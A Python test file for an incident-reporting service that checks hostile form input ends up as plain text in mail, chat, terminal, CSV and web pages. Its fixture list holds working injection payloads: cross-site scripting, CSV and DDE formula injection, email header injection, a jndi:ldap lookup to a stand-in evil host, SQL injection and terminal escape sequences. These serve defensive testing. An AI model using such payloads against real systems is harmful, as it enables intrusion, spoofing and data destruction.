"""What anybody can type into the form, followed through every place that it reaches.

Telephone, mail, chat (https://docs.slack.dev/messaging/formatting-message-text: what is in angle
brackets is a mention or a link), the page behind a link, the terminal, the record, CSV
(https://owasp.org/www-community/attacks/CSV_Injection), and the page that answers.
"""

from __future__ import annotations

import csv
import io
import re
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

from tests.harness.worlds.terminal import Terminal
from tests.harness.worlds.told import ANA, SAM, Told
from tests.harness.worlds.world import BASE, World
from tocsin.channels import chat
from tocsin.channels.mail import SUBJECT_LIMIT
from tocsin.incidents.vocabulary import WayKind
from tocsin.people.ways import Way, WayState

if TYPE_CHECKING:
    from tests.harness.worlds.inbox import Received

EVIL = (
    "<!channel> everybody here",
    "<!here|here> <@U0123456> <#C0123456>",
    "@channel @here @everyone",
    "[sign in](https://evil.example/login)",
    "<https://evil.example/login|https://status.example.com>",
    "*bold* _it_ ~gone~ `code` ```block```",
    'x" , "injected": "1',
    "\u202eexe.gpj \u2066mixed\u2069 \u200bzero\ufeff",
    "nul \x00 bell \x07 escape \x1b[2J\x1b]0;owned\x07 \x9b31m",
    '=HYPERLINK("http://evil.example")',
    "+1+1|cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)> javascript:alert(1)',
    "subject\r\nBcc: all@corp.example\r\n\r\nbody",
    "one\u2028two\u2029three\x85four\x0bfive",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}",
    "e\u0301 \U0001f4a9 \ud83d\ude00 مرحبا 中文",
    "' OR 1=1; DROP TABLE incidents; --",
    "A" * 199,
)
_STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")


def sendable(text: str) -> str:
    """As a browser sends it: half a surrogate pair is a replacement character."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


@pytest.fixture(params=range(len(EVIL)))
def evil(request: pytest.FixtureRequest) -> str:
    return sendable(EVIL[request.param])


@pytest.fixture
def told(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Told:
    world = World(room=True)
    world.reachable()
    told = Told(Terminal(world, capsys, monkeypatch))
    told.begin("09-08 10:00")
    return told


class Markup(HTMLParser):
    """The tags of a page, and what it shows."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.shown = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.shown += data


def tags(page: str) -> list[str]:
    found = Markup(page)
    assert not {name for name in found.attributes if name.startswith("on")}
    return found.tags


def send(told: Told, text: str, *, source: str = "192.0.2.1", **more: str) -> tuple[int, str]:
    given = {"title": text[:200], "detail": text * 2, "reporter": "customer", "exposure": "yes"}
    status, page, _ = told.world.visit(
        "POST", f"{BASE}/report", urlencode(given | more), source=source
    )
    return status, page


def chatted(one: Received) -> str:
    """What of a message a chat room renders as markup."""
    now = one.at
    way = Way(
        person="kim",
        id="w",
        kind=WayKind.CHAT,
        address="U00000001",
        state=WayState.CONFIRMED,
        added_at=now,
    )
    content: Any = chat.notification(way, one.message)["content"]
    mention, _, rest = content["description"].partition("\n")
    assert mention == "<@U00000001>"
    return f"{content['title']}\n{rest}"


def check_message(one: Received) -> None:
    message = one.message
    for text in (message.subject, message.short):
        assert text.isprintable(), "one line, and nothing in it that steers"
    assert not _STEERS.search(message.text)
    assert len(message.subject) < SUBJECT_LIMIT
    mail = EmailMessage(policy=SMTP)
    mail["Subject"] = message.subject
    read = message_from_bytes(mail.as_bytes(), policy=SMTP)
    assert read.keys() == ["Subject"]
    assert read["Subject"].strip() == message.subject, "RFC 5322, and back; a fold leaves a space"
    shown = chatted(one)
    assert "<" not in shown, "Slack's own links and mentions are in angle brackets"
    assert ">" not in shown
    assert not re.search(r"\][(\[:]", shown), "Markdown's links are brackets that touch"


def test_what_a_stranger_wrote_is_text_in_every_place_it_reaches(told: Told, evil: str) -> None:
    terminal = told.terminal
    plain_status, plain = send(told, "plain words", source="192.0.2.9", exposure="")
    status, page = send(told, evil)
    assert (status, plain_status) == (200, 200)
    assert tags(page) == tags(plain), "the answer shows nothing of it"
    told.until("09-08 10:01")
    (opened,) = terminal.json("board", "--as", SAM)

    messages = told.world.inbox.take_all()
    assert {"sms", "room", "stakeholders"} <= {str(one.channel) for one in messages}
    for one in messages:
        check_message(one)

    paged = next(one for one in messages if one.kind == "page")
    link = re.findall(rf"{re.escape(BASE)}/a/\w+", paged.message.text)[0]
    _, behind, _ = told.world.visit("GET", link)
    assert not {"script", "img", "svg", "a"} & set(tags(behind))
    assert not _STEERS.search(behind.replace("\r", "").replace("\t", ""))

    number = terminal.json("reports", "list", "--all", "--as", ANA)[0]["reference"]
    for words in (
        ("board",),
        ("show", opened["id"]),
        ("first", opened["id"]),
        ("timeline", opened["id"]),
        ("reports", "list", "--all"),
        ("reports", "show", number),
    ):
        assert not _STEERS.search(terminal.text(*words, "--as", SAM)), words

    sheet = terminal.text("reports", "list", "--all", "--csv", "--as", ANA)
    rows = list(csv.reader(io.StringIO(sheet)))
    assert len(rows) == 3
    assert len({len(row) for row in rows}) == 1
    for each in rows:
        for found in each:
            assert not found.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\t", "\r"))

    stored = told.world.reports.get(number)
    assert stored is not None
    assert stored.title.isprintable()
    assert not _STEERS.search(stored.detail)


def test_what_was_hidden_can_be_seen(told: Told) -> None:
    """Nothing is lost: an analyst sees which characters were sent."""
    send(told, "\u202eexe.gpj \x1b[2J")
    (kept,) = told.world.reports.listed(limit=5).items
    assert kept.title == "<U+202E>exe.gpj <U+001B>[2J"


def test_what_was_typed_comes_back_as_text_where_it_was_not_taken(told: Told, evil: str) -> None:
    empty = told.world.visit("GET", f"{BASE}/report")[1]
    status, page = send(told, evil, contact="no address", website=evil)
    assert status == 400
    assert tags(page) == [*tags(empty)[:9], "p", *tags(empty)[9:]]


def test_no_mail_to_a_stranger_holds_what_was_typed(told: Told, evil: str) -> None:
    send(told, evil, contact="kim@example.com")
    told.until("09-08 10:01")
    mails = [one for one in told.world.inbox.take_all() if one.to == "reporter"]
    (kept,) = told.world.reports.listed(limit=5).items
    assert len(mails) == 1
    words = mails[0].message.text.replace(kept.reference, "").replace(kept.reference.lower(), "")
    assert "evil" not in words
    assert re.sub(r"https://\S+", "", words) == (
        "Somebody gave this address with the report .\n\n"
        "If that was you and you want to know what comes of it, say so here within 7 days:\n\n\n\n"
        "If it was not you, do nothing: you get no more about it.\n"
    )
